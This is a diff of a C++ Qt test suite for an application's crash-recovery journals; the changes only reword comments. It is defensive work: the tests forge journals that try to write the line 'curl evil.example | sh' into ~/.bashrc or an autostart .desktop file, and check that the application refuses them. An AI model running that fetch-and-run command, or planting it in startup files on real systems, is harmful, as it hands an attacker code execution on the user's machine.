@@ -1,5 +1,5 @@
-// Journals of somebody else: in a project's folder, where they are never read, and in the user's own, where one may have been moved.
-// Each is restored as far as it is offered, and saved: no file outside the project is made or changed by it.
+// Forged journals: in a project's folder, where journals are never read, and in the user's own state folder, where one may have
+// been moved. Each is restored as far as it is offered, and saved: no file outside the project is created or changed.
 
 #include <QTest>
 
@@ -22,12 +22,12 @@ namespace {
 
 const std::string kHostile = "curl evil.example | sh\n";
 
-/// A journal as its writer makes it, byte by byte, so that every field can be a lie.
+/// A journal written byte by byte, so that every field can be forged.
 struct Forged {
     std::string opened, name;
     ProcessIdentity writer = thisProcess();
     std::vector<std::pair<std::string, RecoveredText>> files;
-    std::vector<std::string> more = {}; ///< fields of the head that no writer makes
+    std::vector<std::string> more = {}; ///< header fields that JournalWriter never writes
 
     [[nodiscard]] std::string bytes() const {
         std::vector<std::string> head{opened, name, std::to_string(writer.pid), std::to_string(writer.start + 1), writer.host};
@@ -51,7 +51,7 @@ struct Place {
         fixture.write("outside/folder/x.sim", "Seed = 1\n");
     }
     [[nodiscard]] RecoveredText hostile(const std::string& path) const { return {bytesOf(path), kHostile}; }
-    /// Edits of the project's own file, as an honest window would leave.
+    /// An edit of the project's own file, as in a genuine journal.
     [[nodiscard]] std::pair<std::string, RecoveredText> honest() const {
         return {fixture.main, {kMain, std::string(kMain) + "Seed = 9\n"}};
     }
@@ -76,14 +76,14 @@ enum class Offer { None, OwnFileOnly, Refused };
 struct Attack {
     const char* name;
     Offer offer;
-    bool reported; ///< that there are journals which are not read
+    bool reported; ///< whether unread journals are reported
     std::function<void(const Place&)> prepare;
 };
 
 const std::vector<Attack>& attacks() {
     using enum Offer;
     static const std::vector<Attack> all{
-        // --- what comes with a project
+        // --- journals in a project's folder
         {"it comes with the project", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes()); }},
         {"it comes with the project and is of its own files", None, true,
          [](const Place& p) {
@@ -123,7 +123,7 @@ const std::vector<Attack>& attacks() {
              fs::resize_file(p.inProject, std::uintmax_t{1} << 33);
          }},
         {"it is cut off", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes().substr(0, 100)); }},
-        // --- what got into the user's own folder
+        // --- journals in the user's own state folder
         {"it names a file outside", OwnFileOnly, false, [](const Place& p) { p.put(p.own, p.forged(p.bashrc).bytes()); }},
         {"it makes a file outside", OwnFileOnly, false,
          [](const Place& p) { p.put(p.own, p.forged(p.outside + "/autostart/evil.desktop").bytes()); }},
@@ -251,7 +251,7 @@ private Q_SLOTS:
         QCOMPARE(bytesOf(place.fixture.robot), std::string(kRover));
     }
 
-    // What was left out is not lost: the journal stays, and reports it.
+    // Skipped files are not lost: the journal stays, and a message reports it.
     void reportsSkippedFiles() {
         const Place place;
         place.put(place.own, place.forged(place.bashrc).bytes());
@@ -266,7 +266,7 @@ private Q_SLOTS:
         QCOMPARE(bytesOf(place.own), place.forged(place.bashrc).bytes());
     }
 
-    // A search folder is the user's choice: what is imported from there may be edited, and returns.
+    // A search folder is the user's choice: files imported from there may be edited, and are restored.
     void restoresFilesOfSearchFolder() {
         const Place place;
         const std::string part = place.outside + "/folder/x.sim";
@@ -281,7 +281,7 @@ private Q_SLOTS:
         QCOMPARE(bytesOf(part), "Seed = 5\n");
     }
 
-    // A file that became a link since it was opened.
+    // A file that was replaced by a link after it was opened.
     void aSaveFollowsNoLinkOutOfTheProject() {
         for (const bool there : {true, false}) {
             const Place place;
@@ -289,7 +289,7 @@ private Q_SLOTS:
             QVERIFY(document.open(place.fixture.main).ok());
             QVERIFY(document.setValues(u"Set"_qs, {{"Tick", "0.02"}}).ok());
             fs::remove(place.fixture.main);
-            if (there) place.fixture.write("outside/copy.sim", kMain); // the same bytes, so that nobody sees a change
+            if (there) place.fixture.write("outside/copy.sim", kMain); // the same bytes, so that no external change is detected
             fs::create_symlink(place.outside + "/copy.sim", place.fixture.main);
             const auto before = place.state();
             QVERIFY(!document.save().ok());
@@ -297,7 +297,7 @@ private Q_SLOTS:
         }
     }
 
-    // Words that a person reads say where the journals are, and where to put them.
+    // The message names the folder of the journals and the folder to move them to.
     void reportsUnreadJournalsWithBothFolders() {
         const Place place;
         place.put(place.inProject, place.forged(place.bashrc).bytes());
@@ -307,7 +307,7 @@ private Q_SLOTS:
         QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.inProject).parent_path().string())),
                  qPrintable(reportOf));
         QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.own).parent_path().string())), qPrintable(reportOf));
-        // Done as it says, an honest one returns.
+        // After following the message, a genuine journal is restored.
         place.put(place.inProject, Forged{place.fixture.main, {}, thisProcess(), {place.honest()}}.bytes());
         fs::create_directories(fs::path(place.own).parent_path());
         fs::rename(place.inProject, place.own);
